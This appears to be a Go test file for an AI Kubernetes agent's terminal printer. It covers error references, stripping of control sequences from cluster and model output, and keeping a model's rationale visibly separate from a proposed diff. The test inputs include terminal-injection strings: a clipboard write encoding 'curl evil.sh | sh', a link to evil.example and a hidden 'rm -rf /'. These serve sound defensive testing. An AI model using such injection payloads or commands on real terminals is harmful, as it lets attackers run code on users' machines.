package main

import (
	"context"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/kubertnetes/kubertnetes/agent"
	"github.com/kubertnetes/kubertnetes/kube"
)

func TestPrinterShowsAFailureOnceWithAReference(t *testing.T) {
	cause := errors.New(`analyze all namespaces: Get "https://10.9.8.7:6443/api/v1/pods": x509: certificate signed by unknown authority`)
	tests := []struct {
		name     string
		emitted  error // what the brain emitted as an ErrorEvent
		returned error // what Ask returned
		shown    int   // "error:" lines printed
	}{
		{"emitted and returned", cause, cause, 1},
		{"returned only", nil, cause, 1},
		{"returned wrapped", cause, fmt.Errorf("ask: %w", cause), 1},
		{"stopped by the user", context.Canceled, context.Canceled, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out strings.Builder
			core, logs := observer.New(zapcore.WarnLevel)
			p := &printer{w: &out, log: zap.New(core)}
			if tt.emitted != nil {
				p.event(agent.ErrorEvent{Err: tt.emitted})
			}
			err := p.fail(tt.returned)
			if n := strings.Count(out.String(), "error:"); n != tt.shown {
				t.Fatalf("printed %d errors, want %d:\n%s", n, tt.shown, out.String())
			}
			if tt.shown == 0 {
				if !errors.Is(err, context.Canceled) {
					t.Errorf("fail(%v) = %v, want the cancellation back", tt.returned, err)
				}
				return
			}
			if strings.Contains(out.String(), "10.9.8.7") || strings.Contains(err.Error(), "x509") {
				t.Errorf("the user sees the raw error: %q, returned %q", out.String(), err)
			}
			ref := regexp.MustCompile(`\(ref ([A-Z2-7]{6})\)`).FindStringSubmatch(out.String())
			if ref == nil || !strings.Contains(err.Error(), ref[0]) {
				t.Fatalf("printed %q and returned %q, want both with the same reference", out.String(), err)
			}
			logged := logs.FilterField(zap.String("ref", ref[1])).All()
			if len(logged) != 1 || !strings.Contains(fmt.Sprint(logged[0].ContextMap()["error"]), "x509") {
				t.Errorf("log entries with ref %s: %+v, want one with the full error", ref[1], logged)
			}
		})
	}
}

// Nothing a cluster or a model wrote can drive the terminal: escape
// sequences and control characters are removed from every line printed,
// whatever event carries them.
func TestTerminalOutputCarriesNoControlSequences(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"clear screen", "before\x1b[2Jafter", "beforeafter"},
		{"cursor home and colour", "\x1b[H\x1b[31mred\x1b[0m", "red"},
		{"OSC 52 clipboard write, BEL", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy"},
		{"OSC 8 link, ST", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"carriage return overwrite", "rm -rf /\rls -l    ", "rm -rf /ls -l    "},
		{"C1 CSI and backspace", "a\u009b2Jb\bc", "a2Jbc"},
		{"invalid UTF-8", "ok\xff\xfe", "ok"},
		{"newlines and tabs stay", "a\n\tb", "\tb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out strings.Builder
			p := &printer{w: terminalSafe(&out), log: zap.NewNop()}
			p.event(agent.FindingEvent{Finding: kube.Finding{Reason: "CrashLoopBackOff", Message: "m", Evidence: []string{tt.in}}})
			p.event(agent.Answer{Text: tt.in})
			p.event(agent.ProposalEvent{Proposal: agent.Proposal{ID: "fix-1", Preview: kube.Preview{Diff: tt.in, Fix: kube.Fix{Rationale: tt.in}}}})
			got := out.String()
			if strings.ContainsAny(got, "\x1b\r\b\u009b\x07") || !utf8.ValidString(got) {
				t.Errorf("printed control characters: %q", got)
			}
			if n := strings.Count(got, tt.want); n < 4 {
				t.Errorf("printed %q %d times in %q, want it in the evidence, the answer, the diff and the rationale", tt.want, n, got)
			}
		})
	}
}

// The model's words come below the diff, labelled: a rationale that looks
// like a diff cannot pass for part of it.
func TestProposalShowsTheModelsWordsBelowTheDiff(t *testing.T) {
	var out strings.Builder
	printProposal(&out, "Proposed fix", agent.Proposal{ID: "fix-1", Preview: kube.Preview{Diff: "-  a: 1\n+  a: 2\n",
		Fix: kube.Fix{Rationale: "harmless\n+  privileged: false", Risk: "none", Expected: "pods Ready"}}})
	got := out.String()
	diff, words := strings.Index(got, "+  a: 2"), strings.Index(got, "in the proposer's words")
	if diff < 0 || words < diff || strings.Index(got, "why: harmless") < words || !strings.Contains(got, "expected: pods Ready") {
		t.Errorf("proposal printed as:\n%s", got)
	}
	if strings.Contains(got, "\n+  privileged") {
		t.Errorf("the rationale's second line reads as a diff line:\n%s", got)
	}
}
